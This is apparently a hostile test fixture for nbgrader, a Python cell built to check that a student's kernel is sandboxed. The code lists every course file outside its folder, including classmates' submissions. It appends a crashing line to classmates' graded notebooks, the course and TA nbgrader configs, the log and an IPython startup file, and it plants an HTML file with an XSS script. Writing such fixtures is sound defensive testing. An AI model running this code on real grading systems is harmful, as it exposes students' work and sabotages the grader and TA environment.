# Hostile fixture (issue 19, nbgrader): appended to an otherwise correct answer cell. The kernel
# looks for every file of the course outside its own notebook's folder (gradebook, source,
# classmates' submissions and graded notebooks, .nbgrader.log) and writes where nbgrader or the
# TA's next session would read: classmates' graded notebooks, the course's nbgrader_config.py and
# .nbgrader.log, the TA's ~/.jupyter/nbgrader_config.py (loaded by every nbgrader command), an
# IPython start-up file, and a file in its own folder (which generate_feedback would copy).
# Expected: "course files seen: 0", "writes made: 0"; its own folder's new file is gone after the
# kernel (its folder is private to it); nothing in the course or the TA's home changes; full points.
import os

_here = os.getcwd()
_course = os.path.abspath(os.path.join("..", "..", ".."))
_seen = [
    os.path.join(top, name)
    for top, _, names in os.walk(_course)
    if not (top + os.sep).startswith(_here + os.sep)
    for name in names
]
print("course files seen:", len(_seen))
_targets = [os.path.join(_course, "nbgrader_config.py"), os.path.join(_course, ".nbgrader.log")]
_lab = os.path.basename(_here)
for _student in os.listdir(os.path.join(_course, "autograded")):
    _targets.append(os.path.join(_course, "autograded", _student, _lab, _lab + ".ipynb"))
_targets += [
    os.path.expanduser("~/.jupyter/nbgrader_config.py"),
    os.path.expanduser("~/.ipython/profile_default/startup/00-convlab.py"),
]
_made = []
for _target in _targets:
    if os.path.dirname(_target) == _here:
        continue
    try:
        os.makedirs(os.path.dirname(_target), exist_ok=True)
        with open(_target, "a") as _f:
            _f.write("\nraise SystemExit('written by a student kernel')\n")
        _made.append(_target)
    except OSError:
        pass
print("writes made:", len(_made), _made)
try:
    with open("planted_for_feedback.html", "w") as _f:
        _f.write("<script>alert(1)</script>")
    print("own folder: wrote planted_for_feedback.html")
except OSError as error:
    print("own folder: refused", type(error).__name__)
